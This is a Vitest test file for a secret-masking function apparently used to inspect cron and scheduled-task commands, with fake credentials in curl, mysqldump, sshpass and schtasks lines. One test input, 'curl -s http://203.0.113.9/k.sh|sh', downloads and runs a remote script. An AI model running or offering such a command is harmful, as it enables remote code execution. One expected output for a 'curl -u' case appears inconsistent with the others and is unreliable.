import { expect, test } from 'vitest';
import { maskCronSecrets } from '../../src/t1053/cron-secrets.ts';

const SECRET = 'S3cret-pw';

test.each([
  [`curl https://bob:${SECRET}@203.0.113.9/x`, 'curl https://bob:***@203.0.113.9/x'],
  [`curl ftp://bob:a@${SECRET}@h/x`, 'curl ftp://bob:***@h/x'],
  [`git pull https://ghp_${SECRET}0123456@h/x`, 'git pull https://***@h/x'],
  [`PASSWORD=${SECRET} /bin/x`, 'PASSWORD=*** /bin/x'],
  [`MYSQL_PWD_PASSWORD='${SECRET} b' /bin/x`, 'MYSQL_PWD_PASSWORD=*** /bin/x'],
  [`export DB_PASS_WD=1; DB_PASSWD="${SECRET}"; x`, 'export DB_PASS_WD=1; DB_PASSWD=***; x'],
  [`API_TOKEN=${SECRET}; x`, 'API_TOKEN=***; x'],
  [`SECRET_KEY=${SECRET} x`, 'SECRET_KEY=*** x'],
  [`apikey: ${SECRET}`, 'apikey: ***'],
  [`x --password ${SECRET} -v`, 'x --password *** -v'],
  [`x --password=${SECRET} -v`, 'x --password=*** -v'],
  [`x --db-password "${SECRET} b" -v`, 'x --db-password *** -v'],
  [`x --auth-token ${SECRET}`, 'x --auth-token ***'],
  [`curl -d '{"password": "${SECRET}"}' h`, `curl -d '{"password": ***}' h`],
  [`curl -H "Authorization: Bearer ${SECRET}" h`, 'curl -H "Authorization: Bearer ***" h'],
  [`curl -s -u bob:${SECRET} h`, 'curl -s -u bob:*** h'],
  [`/usr/bin/curl -u "bob:${SECRET}" h`, '/usr/bin/curl -u "bob:***'],
  [`curl --user bob:${SECRET} h`, 'curl --user bob:*** h'],
  [`mysqldump -u root -p${SECRET} db`, 'mysqldump -u root -p*** db'],
  [`sshpass -p ${SECRET} ssh h`, 'sshpass -p *** ssh h'],
  [`schtasks /create /ru u /rp ${SECRET}`, 'schtasks /create /ru u /rp ***'],
])('%s', (text, expected) => {
  expect(maskCronSecrets(text)).toBe(expected);
});

test.each([
  '*/5 * * * * root /usr/bin/backup --quiet >/dev/null 2>&1',
  'curl -s http://203.0.113.9/k.sh|sh',
  'curl https://git@h/x',
  'mysqldump -u root -p db',
  'mysqldump -u root --port=3306 db',
  'x --password -v',
  'passwd root',
  'ssh git@example.org',
])('%s stays as it is', (text) => {
  expect(maskCronSecrets(text)).toBe(text);
});

test('a masked text stays as it is', () => {
  const once = maskCronSecrets(`x --password ${SECRET}; curl https://a:${SECRET}@h`);
  expect(maskCronSecrets(once)).toBe(once);
});
